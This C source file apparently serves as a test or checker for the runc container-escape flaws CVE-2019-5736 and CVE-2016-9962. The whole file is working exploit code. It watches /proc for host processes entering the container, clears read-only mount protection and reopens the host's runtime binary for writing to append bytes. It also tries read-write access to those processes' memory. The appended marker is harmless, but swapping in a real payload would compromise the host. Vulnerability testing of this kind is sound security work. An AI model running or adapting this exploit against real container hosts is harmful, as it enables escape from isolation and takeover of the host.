/*
 * CVE-2019-5736: waits for commands that enter the machine, and takes hold of the program that brings them in, to overwrite
 * it as soon as it no longer runs. Also looks whether such a newcomer can be read or traced while it still is the host's
 * program (CVE-2016-9962). Runs for argv[1] seconds; argv[2] is a path that says "go on" while it exists.
 *
 * Makes the file /held as soon as it has hold of a program of the host. Prints: newcomers N, held N (host programs opened), written N (host programs opened for writing), peeked N
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static long newcomers, held, written, peeked;
static int last_seen;
static dev_t own_device;

/* A program of the machine lies on the machine's own file system; anything else came from outside. */
static bool from_outside(int program)
{
	struct stat status;

	return fstat(program, &status) == 0 && status.st_dev != own_device;
}

/* Seconds for a program that was held to end: longer, and those that come meanwhile are not seen. */
static const double PATIENCE = 0.3;

static double now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static void overwrite(int program)
{
	struct mount_attr writable = { .attr_clr = MOUNT_ATTR_RDONLY };
	char path[64];
	double until = now() + PATIENCE;

	/* A program on a read-only mount is no safer than that mount. */
	syscall(SYS_mount_setattr, program, "", AT_EMPTY_PATH, &writable, sizeof(writable));

	snprintf(path, sizeof(path), "/proc/self/fd/%d", program);
	while (now() < until) {
		int fd = open(path, O_WRONLY | O_APPEND);

		if (fd >= 0) {
			/* Bytes after the end of an ELF file change nothing but its checksum. */
			if (write(fd, "overwritten", 11) == 11)
				written++;
			close(fd);
			return;
		}
		if (errno != ETXTBSY)
			return;
	}
}

static void peek(int pid)
{
	char path[64], byte;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDWR);
	if (fd < 0)
		return;
	(void)!read(fd, &byte, 1);
	peeked++;
	close(fd);
}

static void examine(int pid)
{
	char path[64];
	int program;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	program = open(path, O_RDONLY);
	if (program < 0)
		return;
	if (from_outside(program)) {
		if (held++ == 0)
			close(open("/held", O_WRONLY | O_CREAT | O_CLOEXEC, 0600));
		peek(pid);
		overwrite(program);
	}
	close(program);
}

static void look_for_newcomers(void)
{
	char path[64];

	/* Process ids come one after another: the next ones are tried without the cost of a listing. */
	for (int next = last_seen + 1; next < last_seen + 64; next++) {
		snprintf(path, sizeof(path), "/proc/%d", next);
		if (access(path, F_OK) < 0)
			continue;
		newcomers++;
		last_seen = next;
		/* Long enough to see it become the command. */
		for (int tries = 0; tries < 400; tries++)
			examine(next);
	}
}

int main(int argc, char **argv)
{
	time_t until = time(NULL) + (argc > 1 ? atoi(argv[1]) : 5);
	struct stat root;

	if (stat("/", &root) < 0)
		return 1;
	own_device = root.st_dev;
	last_seen = getpid();
	while (time(NULL) < until && (argc < 3 || access(argv[2], F_OK) == 0))
		look_for_newcomers();
	printf("newcomers %ld\nheld %ld\nwritten %ld\npeeked %ld\n", newcomers, held, written, peeked);
	return 0;
}
